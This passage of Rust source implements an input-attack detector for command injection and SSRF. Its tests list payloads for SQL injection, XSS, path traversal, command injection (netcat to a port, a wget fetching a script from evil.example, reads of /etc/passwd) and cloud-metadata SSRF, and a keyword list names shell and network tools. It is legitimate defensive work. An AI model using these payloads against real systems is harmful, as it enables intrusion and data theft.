        return Hit::label("file://", at..at + 6);
    }
    if let Some(at) = memchr(0, t) {
        if t.iter().any(|&c| matches!(c, b'/' | b'.')) {
            return Hit::label("%00", at..at + 1);
        }
    }
    None
}

// ------------------------------------------------------------------------------------------
// OS command injection

#[derive(Clone, Copy, PartialEq, Eq)]
enum Shape {
    /// Reads files: needs a path-like argument (`cat /etc/passwd`).
    File,
    /// Runs without arguments (`id`, `whoami`): bare, or with a flag or path.
    NoArg,
    /// Talks to the network: needs a host, address, URL or flag.
    Net,
    /// Waits: needs a number.
    Sleep,
    /// Shells and interpreters: bare, or with a flag or path.
    Shell,
    /// Prints: anything.
    Echo,
    /// PHP-style calls: `system(`.
    Call,
}

/// Known commands by argument shape.
static COMMANDS: [(Shape, WordList); 7] = [
    (
        Shape::File,
        WordList::new(
            "cat tac head tail more less nl type base64 xxd od strings rm chmod chown touch cp mv \
             find grep tee del mkfifo awk",
        ),
    ),
    (
        Shape::NoArg,
        WordList::new(
            "id whoami uname pwd hostname ifconfig ipconfig netstat ps env printenv systeminfo \
             tasklist ver ls dir reboot",
        ),
    ),
    (
        Shape::Net,
        WordList::new(
            "wget curl nc ncat netcat telnet ping nslookup dig ssh scp ftp tftp traceroute \
             tracert socat certutil bitsadmin",
        ),
    ),
    (Shape::Sleep, WordList::new("sleep timeout")),
    (
        Shape::Shell,
        WordList::new(
            "bash sh zsh ksh dash csh tcsh powershell pwsh cmd python python3 perl ruby php node \
             nohup sudo exec xargs busybox mshta rundll32 regsvr32 wscript cscript wmic crontab \
             kill",
        ),
    ),
    (Shape::Echo, WordList::new("echo printf")),
    (
        Shape::Call,
        WordList::new("system passthru shell_exec popen proc_open pcntl_exec"),
    ),
];

/// What follows a command word.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Level {
    /// Not that command's argument shape.
    None,
    /// Nothing, a separator or a redirection: the command runs bare.
    Bare,
    /// A flag (`-la`, `/c`).
    Flag,
    /// An object of the right kind: a path, an address, a number of seconds.
    Object,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    /// Start of the value: only a command with an object (or spelled `/bin/..`) counts.
    Start,
    /// A lone `&`, common in text.
    Weak,
    /// `;`, `|`, `||`, `&&`, newline.
    Medium,
    /// Command substitution: `` `..` `` and `$(..)`.
    Subst,
}

/// Blanks between a command and its argument: spaces, tabs, `${IFS}`, `$IFS`.
fn skip_blanks(s: &[u8], mut i: usize) -> usize {
    loop {
        if i < s.len() && matches!(s[i], b' ' | b'\t') {
            i += 1;
        } else if starts_with_ci(s, i, b"${ifs}") {
            i += 6;
        } else if starts_with_ci(s, i, b"$ifs") {
            i += 4;
            if s.get(i) == Some(&b'$') && s.get(i + 1).is_some_and(u8::is_ascii_digit) {
                i += 2;
            }
        } else {
            return i;
        }
    }
}

fn is_cmd_delim(c: u8) -> bool {
    matches!(
        c,
        b' ' | b'\t'
            | b'\n'
            | b'\r'
            | b';'
            | b'|'
            | b'&'
            | b'`'
            | b'$'
            | b'('
            | b')'
            | b'<'
            | b'>'
            | b'{'
            | b'}'
            | b','
    )
}

/// The command word at `s[i..]`.
struct Word<'b> {
    end: usize,
    /// Base name: quotes dropped, directory and `.exe` stripped, lower-cased.
    name: &'b [u8],
    /// Spelled `/bin/..`, `/usr/bin/..`.
    abs_bin: bool,
    /// Written in lower case (shells are case-sensitive; `$(VER)` is a make variable).
    lower: bool,
}

fn command_word<'b>(s: &[u8], i: usize, buf: &'b mut [u8; 32]) -> Option<Word<'b>> {
    let mut n = 0;
    let mut j = i;
    let mut base = 0;
    let mut lower = true;
    while j < s.len() && !is_cmd_delim(s[j]) {
        let c = s[j];
        j += 1;
        match c {
            b'\'' | b'"' => continue,
            b'/' | b'\\' => base = n + 1,
            b'A'..=b'Z' => lower = false,
            _ => {}
        }
        if n == buf.len() {
            return None;
        }
        buf[n] = c.to_ascii_lowercase();
        n += 1;
    }
    let full = &buf[..n];
    let abs_bin = [
        &b"/bin/"[..],
        b"/usr/bin/",
        b"/sbin/",
        b"/usr/sbin/",
        b"/usr/local/bin/",
    ]
    .iter()
    .any(|p| full.len() > p.len() && full.starts_with(p) && !full[p.len()..].contains(&b'/'));
    let mut name = &buf[base.min(n)..n];
    if name.len() > 4 && name.ends_with(b".exe") {
        name = &name[..name.len() - 4];
    }
    (!name.is_empty()).then_some(Word {
        end: j,
        name,
        abs_bin,
        lower,
    })
}

/// `a` looks like a host, address or URL: `10.0.0.1`, `evil.example:4444`, `http://x/y`.
fn hostlike(a: &[u8]) -> bool {
    let Some(&first) = a.first() else {
        return false;
    };
    let last = a[a.len() - 1];
    first.is_ascii_alphanumeric()
        && (last.is_ascii_alphanumeric() || last == b'/')
        && (a.contains(&b'.') || a.contains(&b':'))
        && a.iter()
            .all(|&c| c.is_ascii_alphanumeric() || b".-:_/@?=%~".contains(&c))
}

fn arg_level(shape: Shape, s: &[u8], j: usize) -> Level {
    if shape == Shape::Call {
        return if s.get(j) == Some(&b'(') {
            Level::Object
        } else {
            Level::None
        };
    }
    let a = skip_blanks(s, j);
    let spaced = a > j;
    let Some(&c) = s.get(a) else {
        return Level::Bare;
    };
    if matches!(c, b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\r' | b'}') {
        return Level::Bare;
    }
    if matches!(c, b'<' | b'>') {
        return Level::Object;
    }
    if !spaced && c != b'$' && c != b',' {
        return Level::None;
    }
    let a = if c == b',' { a + 1 } else { a };
    let e = arg_end(s, a);
    let arg = &s[a..e];
    let Some(&first) = arg.first() else {
        return Level::Bare;
    };
    let flag = (first == b'-' && arg.get(1).is_some_and(u8::is_ascii_alphanumeric))
        || (first == b'/' && arg.len() <= 4 && arg[1..].iter().all(u8::is_ascii_alphabetic));
    let substituted = first == b'$' || first == b'`';
    let pathy = matches!(first, b'/' | b'\\' | b'~' | b'.' | b'*')
        || arg.windows(2).any(|w| w == b":/" || w == b":\\")
        || (arg.contains(&b'/') && first.is_ascii_alphanumeric());
    match shape {
        Shape::File | Shape::NoArg | Shape::Shell if flag => Level::Flag,
        Shape::File | Shape::NoArg | Shape::Shell if pathy || substituted => Level::Object,
        Shape::Net if flag => {
            // `ping -n 30 127.0.0.1`: an address among the next few arguments.
            let mut from = e;
            for _ in 0..4 {
                let a = skip_blanks(s, from);
                let e = arg_end(s, a);
                if a == e {
                    break;
                }
                if hostlike(&s[a..e]) {
                    return Level::Object;
                }
                from = e;
            }
            Level::Flag
        }
        Shape::Net if hostlike(arg) || substituted => Level::Object,
        Shape::Sleep if arg.iter().all(|c| c.is_ascii_digit()) || substituted => Level::Object,
        Shape::Echo => Level::Bare,
        _ => Level::None,
    }
}

/// End of the argument at `a` (arguments are read up to [`MAX_ARG`] bytes).
fn arg_end(s: &[u8], a: usize) -> usize {
    let mut e = a;
    while e < s.len().min(a + MAX_ARG)
        && !matches!(
            s[e],
            b' ' | b'\t' | b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b')' | b'}'
        )
    {
        e += 1;
    }
    e
}

fn accepts(sep: Sep, shape: Shape, level: Level) -> bool {
    match (sep, level) {
        (_, Level::None) => false,
        (Sep::Start, l) => l == Level::Object,
        (_, Level::Object | Level::Flag) => true,
        (Sep::Subst, Level::Bare) => true,
        (Sep::Medium, Level::Bare) => matches!(shape, Shape::NoArg | Shape::Shell | Shape::Echo),
        (Sep::Weak, Level::Bare) => false,
    }
}

fn detect_cmd(s: &[u8]) -> Option<Hit> {
    if let Some(at) = find_ci(s, 0, b"${ifs}") {
        return Hit::label("${IFS}", at..at + 6);
    }
    if let Some(at) = find_ci(s, 0, b"<!--#exec") {
        return Hit::label("<!--#exec", at..at + 9);
    }
    // The value's start is a separator of its own kind.
    let mut lead = 0;
    while lead < s.len() && matches!(s[lead], b' ' | b'\t' | b'\'' | b'"') {
        lead += 1;
    }
    if let Some(h) = cmd_after(s, lead, lead, Sep::Start) {
        return Some(h);
    }
    let last_tick = memchr::memrchr(b'`', s);
    let last_paren = memchr::memrchr(b')', s);
    let mut i = 0;
    while i < s.len() {
        let c = s[i];
        let next = s.get(i + 1).copied();
        let (sep, len) = match c {
            b';' | b'\n' | b'\r' => (Sep::Medium, 1),
            b'|' if next == Some(b'|') => (Sep::Medium, 2),
            b'|' => (Sep::Medium, 1),
            b'&' if next == Some(b'&') => (Sep::Medium, 2),
            b'&' => (Sep::Weak, 1),
            // A backtick that opens a substitution: closed later, and not a Markdown code span
            // in prose (those follow a space).
            b'`' if (i == 0 || !s[i - 1].is_ascii_whitespace())
                && last_tick.is_some_and(|t| t > i) =>
            {
                (Sep::Subst, 1)
            }
            b'$' if next == Some(b'(') && last_paren.is_some_and(|p| p > i) => (Sep::Subst, 2),
            _ => {
                i += 1;
                continue;
            }
        };
        let mut k = skip_blanks(s, i + len);
        while k < s.len() && matches!(s[k], b'{' | b'(' | b'!') {
            k += 1;
        }
        k = skip_blanks(s, k);
        if let Some(h) = cmd_after(s, i, k, sep) {
            return Some(h);
        }
        i += len;
    }
    None
}

fn cmd_after(s: &[u8], sep_at: usize, k: usize, sep: Sep) -> Option<Hit> {
    let mut buf = [0u8; 32];
    let w = command_word(s, k, &mut buf)?;
    let &(shape, _) = COMMANDS.iter().find(|(_, names)| names.contains(w.name))?;
    if sep == Sep::Subst && !w.lower {
        return None;
    }
    if shape == Shape::Call && matches!(sep, Sep::Start | Sep::Weak) {
        return None;
    }
    let sep = if w.abs_bin && sep == Sep::Start {
        Sep::Medium
    } else {
        sep
    };
    let level = arg_level(shape, s, w.end);
    accepts(sep, shape, level).then_some(Hit {
        evidence: Evidence::Span,
        range: sep_at..w.end,
    })
}

// ------------------------------------------------------------------------------------------
// SSRF

/// URL schemes that are an SSRF vector whatever the host.
static SSRF_SCHEMES: WordList = WordList::new("gopher dict file ldap tftp jar netdoc");
/// Schemes whose host is looked at.
static WEB_SCHEMES: WordList = WordList::new("http https ftp ws wss sftp");

fn detect_ssrf(s: &[u8]) -> Option<Hit> {
    let mut a = 0;
    let mut b = s.len();
    while a < b && s[a].is_ascii_whitespace() {
        a += 1;
    }
    while b > a && s[b - 1].is_ascii_whitespace() {
        b -= 1;
    }
    let v = &s[..b];
    // Scheme.
    let mut i = a;
    while i < b && (v[i].is_ascii_alphanumeric() || matches!(v[i], b'+' | b'.' | b'-')) {
        i += 1;
    }
    let has_scheme = i > a
        && i < b
        && v[i] == b':'
        && v[a].is_ascii_alphabetic()
        && !v.get(i + 1).is_some_and(u8::is_ascii_digit);
    let (auth_start, scheme_known) = if has_scheme {
        let scheme = &v[a..i];
        let mut j = i + 1;
        let slashes_start = j;
        while j < b && matches!(v[j], b'/' | b'\\') {
            j += 1;
        }
        if SSRF_SCHEMES.contains(scheme)
            && (j > slashes_start || scheme.eq_ignore_ascii_case(b"jar"))
        {
            return Hit::span(a..j.min(i + 3));
        }
        if !WEB_SCHEMES.contains(scheme) || j == slashes_start {
            return None;
        }
        (j, true)
    } else if v[a..].starts_with(b"//") {
        (a + 2, true)
    } else {
        (a, false)
    };
    // Authority.
    let mut e = auth_start;
    while e < b && !matches!(v[e], b'/' | b'\\' | b'?' | b'#') {
        if !scheme_known && v[e].is_ascii_whitespace() {
            return None;
        }
        e += 1;
    }
    let has_path = e < b;
    let auth = &v[auth_start..e];
    let host_off = auth.iter().rposition(|&c| c == b'@').map_or(0, |p| p + 1);
    if !scheme_known && host_off > 0 {
        return None;
    }
    let hp = &auth[host_off..];
    let (host, has_port) = if hp.first() == Some(&b'[') {
        let close = memchr(b']', hp)?;
        (&hp[..=close], hp.get(close + 1) == Some(&b':'))
    } else {
        match memchr::memrchr(b':', hp) {
            Some(c) => {
                if !hp[c + 1..].iter().all(u8::is_ascii_digit) {
                    return None;
                }
                (&hp[..c], true)
            }
            None => (hp, false),
        }
    };
    let host_start = auth_start + host_off;
    let range = host_start..host_start + host.len();
    let class = classify_host(host)?;
    if !scheme_known {
        // A bare value: loopback and metadata names and addresses as they are, other internal
        // ones with a port or a path (a bare `10.1.2.3` may be a version, `10.0.0.0/8` a CIDR
        // block). Numeric forms other than the dotted quad (`0`, `2130706433`) and the word
        // `metadata` only count inside a URL.
        let cidr = has_path && v[e + 1..].iter().all(u8::is_ascii_digit);
        let numeric = host
            .iter()
            .all(|c| c.is_ascii_hexdigit() || matches!(c, b'.' | b'x' | b'X'));
        let ok = match class {
            HostClass::Ambiguous => false,
            _ if numeric && parse_dotted(host).is_none() => false,
            HostClass::Loopback | HostClass::Metadata => true,
            HostClass::Private => has_port || (has_path && !cidr),
        };
        if !ok {
            return None;
        }
    }
    Hit::span(range)
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum HostClass {
    Loopback,
    Metadata,
    Private,
    /// A name that is a metadata host only inside a URL (`http://metadata/`); a bare
    /// `metadata` is a word.
    Ambiguous,
}

fn classify_host(host: &[u8]) -> Option<HostClass> {
    if host.is_empty() {
        return None;
    }
    let host = host.strip_suffix(b".").unwrap_or(host);
    if host.first() == Some(&b'[') {
        let inner = &host[1..host.len().saturating_sub(1)];
        let inner = match memchr(b'%', inner) {
            Some(p) => &inner[..p],
            None => inner,
        };
        return classify_v6(&parse_v6(inner)?);
    }
    if let Some(ip) = parse_inet_aton(host) {
        return classify_v4(ip);
    }
    let mut lower = [0u8; 64];
    if host.len() > lower.len() {
        return None;
    }
    for (d, &c) in lower.iter_mut().zip(host) {
        *d = c.to_ascii_lowercase();
    }
    let h = &lower[..host.len()];
    let loopback: [&[u8]; 6] = [
        b"localhost",
        b"localhost.localdomain",
        b"ip6-localhost",
        b"ip6-loopback",
        b"localtest.me",
        b"lvh.me",
    ];
    if loopback.contains(&h) || h.ends_with(b".localhost") || h.ends_with(b".localtest.me") {
        return Some(HostClass::Loopback);
    }
    if h == b"metadata.google.internal" || h == b"metadata.goog" {
        return Some(HostClass::Metadata);
    }
    if h == b"metadata" || h == b"instance-data" {
        return Some(HostClass::Ambiguous);
    }
    if h.ends_with(b".internal") {
        return Some(HostClass::Private);
    }
    for suffix in [&b".nip.io"[..], b".sslip.io", b".xip.io"] {
        if let Some(prefix) = h.strip_suffix(suffix) {
            // `127.0.0.1.nip.io`, `app.10.0.0.1.nip.io`, `127-0-0-1.sslip.io`.
            let last = prefix.rsplit(|&c| c == b'.').next().unwrap_or(prefix);
            let ip = last_octets(prefix.rsplit(|&c| c == b'.'))
                .or_else(|| last_octets(last.rsplit(|&c| c == b'-')));
            if let Some(ip) = ip {
                return classify_v4(ip);
            }
        }
    }
    None
}

/// The address spelled by the first four items (last octet first) of `parts`.
fn last_octets<'a>(mut parts: impl Iterator<Item = &'a [u8]>) -> Option<u32> {
    let mut ip = 0u32;
    for k in 0..4 {
        let part = parts.next()?;
        if part.is_empty() || part.len() > 3 || !part.iter().all(u8::is_ascii_digit) {
            return None;
        }
        let v = part.iter().fold(0u32, |v, &c| v * 10 + u32::from(c - b'0'));
        if v > 255 {
            return None;
        }
        ip |= v << (8 * k);
    }
    Some(ip)
}

fn classify_v4(ip: u32) -> Option<HostClass> {
    let [a, b, c, d] = ip.to_be_bytes();
    match (a, b) {
        (169, 254) if c == 169 && d == 254 => Some(HostClass::Metadata),
        (100, 100) if c == 100 && d == 200 => Some(HostClass::Metadata),
        (127, _) => Some(HostClass::Loopback),
        (0, _) if ip == 0 => Some(HostClass::Loopback),
        (10, _) | (192, 168) | (169, 254) => Some(HostClass::Private),
        (172, 16..=31) | (100, 64..=127) => Some(HostClass::Private),
        _ => None,
    }
}

fn classify_v6(g: &[u16; 8]) -> Option<HostClass> {
    if g[..7].iter().all(|&x| x == 0) && (g[7] == 1 || g[7] == 0) {
        return Some(HostClass::Loopback);
    }
    if g[..5].iter().all(|&x| x == 0) && g[5] == 0xffff {
        return classify_v4(u32::from(g[6]) << 16 | u32::from(g[7]));
    }
    if g[0] & 0xffc0 == 0xfe80 || g[0] & 0xfe00 == 0xfc00 {
        return Some(if g == &[0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254] {
            HostClass::Metadata
        } else {
            HostClass::Private
        });
    }
    None
}

/// IPv4 in any form `inet_aton` accepts: 1 to 4 parts, each decimal, octal (`0177`) or hex
/// (`0x7f`); the last part fills the remaining bytes (`127.1`, `2130706433`).
fn parse_inet_aton(h: &[u8]) -> Option<u32> {
    if h.is_empty() || h.len() > 40 {
        return None;
    }
    let mut parts = [0u64; 4];
    let mut n = 0;
    for part in h.split(|&c| c == b'.') {
        if n == 4 || part.is_empty() {
            return None;
        }
        let (digits, radix) =
            if part.len() > 1 && (part.starts_with(b"0x") || part.starts_with(b"0X")) {
                (&part[2..], 16)
            } else if part.len() > 1 && part[0] == b'0' {
                (&part[1..], 8)
            } else {
                (part, 10)
            };
        let mut v: u64 = 0;
        for &c in digits {
            let d = hexval(c).map(u64::from).filter(|&d| d < radix)?;
            v = v.checked_mul(radix)?.checked_add(d)?;
            if v > u64::from(u32::MAX) {
                return None;
            }
        }
        parts[n] = v;
        n += 1;
    }
    let mut ip: u64 = 0;
    for (k, &p) in parts[..n - 1].iter().enumerate() {
        if p > 255 {
            return None;
        }
        ip |= p << (8 * (3 - k));
    }
    let last_bits = 8 * (4 - (n - 1));
    let last = parts[n - 1];
    if last_bits < 32 && last >= 1u64 << last_bits {
        return None;
    }
    Some((ip | last) as u32)
}

/// IPv6 text (no brackets, no zone) into groups; accepts `::` and a trailing dotted IPv4.
fn parse_v6(s: &[u8]) -> Option<[u16; 8]> {
    if s.is_empty() || s.len() > 45 {
        return None;
    }
    let mut head = [0u16; 8];
    let mut tail = [0u16; 8];
    let (mut nh, mut nt) = (0, 0);
    let (left, right, has_gap) = match memmem::find(s, b"::") {
        Some(p) => (&s[..p], &s[p + 2..], true),
        None => (s, &s[..0], false),
    };
    let fill = |part: &[u8], out: &mut [u16; 8], n: &mut usize| -> Option<()> {
        if part.is_empty() {
            return Some(());
        }
        for g in part.split(|&c| c == b':') {
            if g.contains(&b'.') {
                let v4 = parse_dotted(g)?;
                for half in [(v4 >> 16) as u16, v4 as u16] {
                    *out.get_mut(*n)? = half;
                    *n += 1;
                }
                continue;
            }
            if g.is_empty() || g.len() > 4 {
                return None;
            }
            let mut v = 0u16;
            for &c in g {
                v = v << 4 | u16::from(hexval(c)?);
            }
            *out.get_mut(*n)? = v;
            *n += 1;
        }
        Some(())
    };
    fill(left, &mut head, &mut nh)?;
    fill(right, &mut tail, &mut nt)?;
    if (!has_gap && nh != 8) || nh + nt > 8 || (has_gap && nh + nt == 8) {
        return None;
    }
    let mut g = [0u16; 8];
    g[..nh].copy_from_slice(&head[..nh]);
    g[8 - nt..].copy_from_slice(&tail[..nt]);
    Some(g)
}

fn parse_dotted(s: &[u8]) -> Option<u32> {
    let mut ip = 0u32;
    let mut n = 0;
    for part in s.split(|&c| c == b'.') {
        if part.is_empty() || part.len() > 3 || n == 4 {
            return None;
        }
        let v: u32 = std::str::from_utf8(part).ok()?.parse().ok()?;
        if v > 255 {
            return None;
        }
        ip = ip << 8 | v;
        n += 1;
    }
    (n == 4).then_some(ip)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn found(value: &str) -> Vec<Detection> {
        let mut out = Vec::new();
        scan(value.as_bytes(), &mut out);
        out
    }

    fn classes(value: &str) -> Vec<Attack> {
        found(value).iter().map(|d| d.attack).collect()
    }

    fn has(value: &str, attack: Attack) -> bool {
        classes(value).contains(&attack)
    }

    #[track_caller]
    fn assert_flags(value: &str, attack: Attack) {
        let f = found(value);
        assert!(
            f.iter().any(|d| d.attack == attack),
            "{value:?} not flagged as {attack:?}: {f:?}"
        );
    }

    #[track_caller]
    fn assert_clean(value: &str) {
        let f = found(value);
        assert!(f.is_empty(), "{value:?} flagged: {f:?}");
    }

    #[test]
    fn attack_names() {
        let names: Vec<_> = Attack::ALL.iter().map(|a| a.as_str()).collect();
        assert_eq!(
            names,
            ["sqli", "xss", "path_traversal", "command_injection", "ssrf"]
        );
        assert_eq!(Attack::Sqli.owasp(), "A03:2021 Injection");
        assert_eq!(
            Attack::Ssrf.owasp(),
            "API7:2023 Server Side Request Forgery"
        );
    }

    #[test]
    fn fingerprints() {
        let fp = |v: &str, q| sqli_fingerprint(v.as_bytes(), q);
        assert_eq!(fp("1' OR '1'='1", Quote::Single), "s&sos");
        assert_eq!(
            fp("1 UNION SELECT username,password FROM users--", Quote::None),
            "1UEn,"
        );
        assert_eq!(fp("admin'--", Quote::Single), "sc");
        assert_eq!(fp("1;DROP TABLE x", Quote::None), "1;Ekn");
        assert_eq!(fp("' AND SLEEP(5)--", Quote::Single), "s&f(1");
        assert_eq!(fp("1 AND 1=1", Quote::None), "1&1");
        assert_eq!(fp("1\" or \"a\"=\"a", Quote::Double), "s&sos");
        // Folding: arithmetic, unary operators, comments, two-word phrases.
        assert_eq!(fp("-1+2*3 union all select 1", Quote::None), "1UE1");
        assert_eq!(fp("1/**/or/**/1=1", Quote::None), "1&1");
        assert_eq!(fp("1 /*!50000union*/ select 1", Quote::None), "1UE1");
        assert_eq!(fp("1 order by 3#", Quote::None), "1B1c");
        assert_eq!(fp("x' waitfor delay '0:0:5'--", Quote::Single), "sTsc");
        assert_eq!(fp("", Quote::None), "");
    }

    #[test]
    fn sqli_positives() {
        for v in [
            "1' OR '1'='1",
            "1 UNION SELECT username,password FROM users--",
            "admin'--",
            "1;DROP TABLE x",
            "' AND SLEEP(5)--",
            "1 AND 1=1",
            "1%27%20OR%20%271%27%3D%271",
            "1+UNION+ALL+SELECT+NULL%2CNULL--",
            "\" or \"\"=\"",
            "') or ('a'='a",
            "1) or (1=1",
            "' or 1=1 limit 1 -- ",
            "x'; waitfor delay '0:0:5'--",
            "1 and (select count(*) from users) > 0",
            "-1' union select 1,2,3#",
            "1' and extractvalue(1,concat(0x7e,version()))--",
            "' ORDER BY 3--",
            "1/*!union*/select 1",
        ] {
            assert_flags(v, Attack::Sqli);
        }
        let d = found("1' OR '1'='1");
        assert_eq!(d[0].evidence, "s&sos");
        assert_eq!(d[0].range, 0..12);
    }

    #[test]
    fn xss_positives() {
        for (v, ev) in [
            ("<script>alert(1)</script>", "<script"),
            ("\"><img src=x onerror=alert(1)>", "onerror="),
            ("javascript:alert(1)", "javascript:"),
            ("%3Cscript%3E", "<script"),
            ("&lt;script&gt;alert(1)", "<script"),
            ("<svg/onload=alert(1)>", "<svg"),
            ("<iframe srcdoc='x'>", "<iframe"),
            ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "javascript:"),
            ("\" onmouseover=\"alert(1)", "onmouseover="),
            ("<div style=\"width:expression(alert(1))\">", "expression"),
            ("x;color:expression(alert(1))", "expression("),
            ("<body onload=alert(1)>", "onload="),
            ("<x srcdoc=\"&lt;script&gt;\">", "srcdoc="),
            ("data:text/html;base64,PHNjcmlwdD4=", "data:"),
            ("';alert(String.fromCharCode(88))//", "alert("),
            ("<img src=\"vbscript:msgbox(1)\">", "vbscript:"),
        ] {
            let d = found(v);
            let x = d.iter().find(|d| d.attack == Attack::Xss);
            assert_eq!(x.map(|d| d.evidence.as_str()), Some(ev), "{v:?}: {d:?}");
        }
    }

    #[test]
    fn traversal_positives() {
        for (v, ev) in [
            ("../../../etc/passwd", "../../.."),
            ("..%2f..%2f..%2fetc%2fpasswd", "../../.."),
            ("%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "../.."),
            ("%252e%252e%252fetc", ".."),
            ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc", "../.."),
            ("....//....//etc/hosts", "....//...."),
            ("C:\\windows\\win.ini", "/windows/win.ini"),
            ("/etc/passwd", "/etc/passwd"),
            ("file:///etc/hosts", "/etc/hosts"),
            ("file:///srv/data", "file://"),
            ("report.pdf%00.jpg", "%00"),
            ("img/../../secret", ".."),
        ] {
            let d = found(v);
            let x = d.iter().find(|d| d.attack == Attack::PathTraversal);
            assert_eq!(x.map(|d| d.evidence.as_str()), Some(ev), "{v:?}: {d:?}");
        }
    }

    #[test]
    fn command_positives() {
        for (v, ev) in [
            ("; cat /etc/passwd", "; cat"),
            ("| nc 10.0.0.1 4444", "| nc"),
            ("$(whoami)", "$(whoami"),
            ("`id`", "`id"),
            ("a;id;", ";id"),
            ("x && ping -c 3 10.0.0.1", "&& ping"),
            ("& ping -n 30 127.0.0.1 &", "& ping"),
            ("1;sleep 5", ";sleep"),
            ("x|/usr/bin/id", "|/usr/bin/id"),
            ("/bin/ls -al", "/bin/ls"),
            ("x;cat${IFS}/etc/passwd", "${ifs}"),
            (";c'a't /etc/shadow", ";c'a't"),
            ("x\nwget http://evil.example/x.sh", "\nwget"),
            ("<!--#exec cmd=\"ls /\"-->", "<!--#exec"),
            ("x; powershell -enc AAAA", "; powershell"),
            ("x|cmd.exe /c dir", "|cmd.exe"),
            (";system('id')", ";system"),
        ] {
            let d = found(v);
            let x = d.iter().find(|d| d.attack == Attack::CommandInjection);
            assert_eq!(
                x.map(|d| d.evidence.to_ascii_lowercase()),
                Some(ev.to_ascii_lowercase()),
                "{v:?}: {d:?}"
            );
        }
    }

    #[test]
    fn ssrf_positives() {
        for (v, ev) in [
            (
                "http://169.254.169.254/latest/meta-data/",
                "169.254.169.254",
            ),
            ("http://127.0.0.1:8080/admin", "127.0.0.1"),
            ("http://2130706433/", "2130706433"),
            ("gopher://x", "gopher://"),
            ("dict://127.0.0.1:11211/stats", "dict://"),
            ("http://0x7f.1/", "0x7f.1"),
            ("http://0177.0.0.1/", "0177.0.0.1"),
            ("https://localhost/", "localhost"),
            ("http://[::1]:80/", "[::1]"),
            (
                "http://[::ffff:169.254.169.254]/",
                "[::ffff:169.254.169.254]",
            ),
            ("http://user@10.0.0.5/", "10.0.0.5"),
            ("//192.168.1.1/x", "192.168.1.1"),
            (
                "http://metadata.google.internal/computeMetadata/v1/",
                "metadata.google.internal",
            ),
            ("localhost:6379", "localhost"),
            ("127.0.0.1", "127.0.0.1"),
            ("10.0.0.7:2375", "10.0.0.7"),
            ("http://127.0.0.1.nip.io/", "127.0.0.1.nip.io"),
            ("http%3A%2F%2F169.254.169.254%2F", "169.254.169.254"),
        ] {
            let d = found(v);
            let x = d.iter().find(|d| d.attack == Attack::Ssrf);
            assert_eq!(x.map(|d| d.evidence.as_str()), Some(ev), "{v:?}: {d:?}");
        }
    }

    #[test]
    fn benign_values() {
        for v in [
            "O'Brien",
            "It's a \"test\"",
            "select a size",
            "union station",
            "1-2",
            "3 or 4 items",
            "email@example.com",
            "a<b and c>d",
            "docs/../img.png",
            "https://example.com/path",
            "semi;colon",
            "Q&A",
            "{\"name\":\"Ana\",\"tags\":[\"a\",\"b\"],\"n\":1.5,\"ok\":true}",
            "123e4567-e89b-12d3-a456-426614174000",
            "dGhpcyBpcyBhIHRlc3QgdG9rZW4gMTIzNDU2Nzg5MA==",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
            "$5",
            "$5.99 (incl. VAT)",
            "Stainless steel bottle (750 ml), keeps drinks cold for 24 hours (or hot for 12).",
            "Tom & Jerry",
            "rock 'n' roll",
            "don't stop; believe",
            "1 - 2 = -1",
            "Calle Mayor 3, 2-B",
            "50% off -- today only",
            "the cat sat; the dog ran",
            "ping pong",
            "sleep well & eat",
            "mr. smith's car -- red",
            "C#",
            "what is 2+2?",
            "Javascript: the good parts",
            "expression (math)",
            "10.0.0.1",
            "2130706433",
            "localhost is where the heart is",
            "https://api.example.com/v1/users?id=5&sort=name",
            "/home/ana/docs/report.pdf",
            "Jamón Ibérico",
            "Jam%F3n+Ib%E9rico",
            "where are you",
            "I like it, or not",
            "if (a) then b",
            "count(items)",
            "Terms & Conditions; Privacy | Help",
            "Select one: A or B",
            "select 2 from the list",
            "select a, b from the list",
            "and 1 more",
        ] {
            assert_clean(v);
        }
    }

    /// Text with quotes, logic words, semicolons, markup-ish and shell-ish characters that a
    /// regex list would flag.
    #[test]
    fn tricky_benign_values() {
        for v in [
            "Rock 'n' roll or jazz",
            "Children's books and toys",
            "Ben & Jerry's",
            "I'm 5' 10\" tall",
            "5' or 6'",
            "it's 5' or so",
            "He said \"yes\" or \"no\"",
            "\"yes\" or \"no\"",
            "'yes' or 'no'",
            "x' or 'y",
            "O'Reilly and O'Brien",
            "Bob's and Alice's",
            "students' and teachers' union",
            "the 'best' one -- really",
            "McDonald's; Burger King",
            "It's 1 or 2",
            "don't; select one",
            "\"--verbose\" flag",
            "'#' is a comment",
            "comment character (\"#\")",
            "\"Original Author,\" or \"Screenplay based on\"",
            "GOODS OR SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS",
            "usage except those imposed by the laws",
            "Call \"make docs\" to build",
            "red; green; blue",
            "1;2;3",
            "(see above) or below",
            "Tom & Jerry | cat food",
            "Q&A; id card",
            "fish & chips",
            "ls -la",
            "echo hello",
            "curl (7.88.1-10) bookworm; urgency=medium",
            "ssh keys.",
            "scp -3 remote to remote copies.",
            "Replace `cp` with `install`",
            "$(CURDIR)/build",
            "I <3 you",
            "<b>bold</b> and <i>italic</i>",
            "x => y",
            "if (a<b && c>d) return",
            "type the prompt(s) here",
            "check the alert(s)",
            "confirm (yes/no)",
            "{\"onload\": true}",
            "/etc/hosts.equiv is obsolete",
            "10.0.0.0/8",
            "192.168.1.0/24",
            "0/45,ce1/r",
            "1.2.3.4",
            "v10.0.0.1",
            "https://github.com/org/repo/blob/main/README.md#usage",
            "mailto:ana@example.com",
            "data:image/png;base64,iVBORw0KGgo=",
            "SELECT",
            "union",
            "--",
            "#hashtag",
            "a--b",
            "C++ and C#",
            "50% off; today only!",
            "2024-01-01T00:00:00Z",
            "+34 600 123 456",
            "N/A",
            "n/a; see note",
            "\\\\server\\share\\file.txt",
            "C:\\Users\\ana\\Documents\\report.docx",
            // Header values.
